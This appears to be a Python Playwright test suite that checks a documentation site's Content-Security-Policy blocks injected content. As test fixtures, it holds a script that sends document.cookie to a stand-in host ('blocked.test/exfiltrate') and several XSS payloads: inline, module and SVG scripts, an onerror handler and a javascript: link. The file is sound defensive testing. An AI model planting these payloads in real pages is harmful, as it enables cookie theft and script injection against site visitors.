"""The Content-Security-Policy of every page blocks what data could never put there anyway: a
request to another host and an inline script, each blocked and reported by the browser."""

from __future__ import annotations

import re
import shutil
from pathlib import Path

from playwright.sync_api import BrowserContext, Route

from plandocs.localserver import serve
from tests.sitepages import site_pages


def _reach(reached: list[str], route: Route) -> None:
    """Note a request that got past the browser, then refuse it."""
    reached.append(route.request.url)
    route.abort()


# Records every violation the browser reports, before the page's own scripts run.
RECORD_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", e =>
  window.__violations.push(e.violatedDirective + " " + e.blockedURI));
"""
INJECTED = (
    '<img src="http://blocked.test/pixel.png" alt="">'
    "<script>fetch('http://blocked.test/exfiltrate?' + document.cookie)</script>"
)


def test_every_page_has_a_strict_policy(built_site: Path) -> None:
    pages = site_pages(built_site)
    assert len(pages) > 20
    for relative in [*pages, "404.html"]:
        text = (built_site / relative).read_text(encoding="utf-8")
        [policy] = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)"', text)
        policy = policy.replace("&#x27;", "'")
        assert "default-src 'self'" in policy, relative
        script_src = re.search(r"script-src ([^;]+)", policy)
        assert script_src and "unsafe" not in script_src[1], relative
        assert "img-src 'self' data:" in policy and "connect-src 'self'" in policy, relative


def test_an_injected_request_and_script_are_blocked_and_reported(
    built_site: Path, tmp_path: Path, light_context: BrowserContext
) -> None:
    site = tmp_path / "site"
    shutil.copytree(built_site, site)
    page_file = site / "en" / "report" / "risks" / "index.html"
    html = page_file.read_text(encoding="utf-8")
    page_file.write_text(html.replace("</article>", INJECTED + "</article>", 1), encoding="utf-8")
    light_context.add_init_script(RECORD_VIOLATIONS)
    with serve(site) as url:
        page = light_context.new_page()
        reached: list[str] = []  # requests that got past the browser to the network layer
        failed: list[str] = []
        errors: list[str] = []
        page.route(
            "http://blocked.test/**",
            lambda route: _reach(reached, route),
        )
        page.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.goto(url + "en/report/risks/", wait_until="load")
        page.wait_for_function("() => window.__violations.length >= 2", timeout=10_000)
        violations: list[str] = page.evaluate("window.__violations")
    assert reached == []
    assert "http://blocked.test/pixel.png csp" in failed  # Chromium: blocked by the policy
    assert "img-src http://blocked.test/pixel.png" in violations
    assert any(v.startswith("script-src-elem inline") for v in violations), violations
    assert any("Content Security Policy" in error for error in errors)


# Script through every channel a contributor has: the texts that pass the check are inert in
# the page (a page title, a section heading, an abbreviation's expansion: the hostile fixture
# build); those the check refuses (a hand-written page, front matter, an SVG) are put into a
# copy of the built page here, as if they had got past it: the policy still blocks them.
CHANNELS = {
    "front matter title, in <head>": "<script>window.pwned='head'</script>",
    "hand-written page": "<script>window.pwned='docs'</script>",
    "module script": "<script type=module>window.pwned='module'</script>",
    "diagram SVG": "<svg><script>window.pwned='svg'</script></svg>",
    "event handler": "<img src='data:,' onerror=\"window.pwned='handler'\" alt=''>",
    "javascript: link": "<a id='js-link' href=\"javascript:window.pwned='link'\">x</a>",
}


def test_label_script_is_inert_in_both_languages(
    hostile_site: Path, light_context: BrowserContext
) -> None:
    light_context.add_init_script(RECORD_VIOLATIONS)
    with serve(hostile_site) as url:
        page = light_context.new_page()
        for route, shown in (
            ("en/report/risks/", "Risks </title><script>"),
            ("report/risks/", "风险</title><script>"),
        ):
            page.goto(url + route, wait_until="load")
            page.wait_for_function("() => document.querySelector('.md-header__topic') !== null")
            assert page.evaluate("typeof window.pwned") == "undefined"
            assert page.title().startswith(shown)
            assert shown in page.locator("h1").first.inner_text()


def test_script_through_every_channel_is_blocked_and_reported(
    hostile_site: Path, tmp_path: Path, light_context: BrowserContext
) -> None:
    site = tmp_path / "site"
    shutil.copytree(hostile_site, site)
    page_file = site / "en" / "report" / "risks" / "index.html"
    html = page_file.read_text(encoding="utf-8")
    head, *body = CHANNELS.values()
    html = html.replace("</title>", "</title>" + head, 1)
    html = html.replace("</article>", "".join(body) + "</article>", 1)
    page_file.write_text(html, encoding="utf-8")
    light_context.add_init_script(RECORD_VIOLATIONS)
    with serve(site) as url:
        page = light_context.new_page()
        errors: list[str] = []
        page.on("console", lambda m: errors.append(m.text) if m.type == "error" else None)
        page.goto(url + "en/report/risks/", wait_until="load")
        page.wait_for_function("() => window.__violations.length >= 5", timeout=10_000)
        page.locator("#js-link").click()
        page.wait_for_function("() => window.__violations.length >= 6", timeout=10_000)
        violations: list[str] = page.evaluate("window.__violations")
        assert page.evaluate("typeof window.pwned") == "undefined"
    elements = [v for v in violations if v.startswith("script-src-elem inline")]
    assert len(elements) >= 4, violations  # head, page, module and SVG scripts
    assert any(v.startswith("script-src-attr inline") for v in violations), violations
    assert any("Content Security Policy" in error for error in errors)
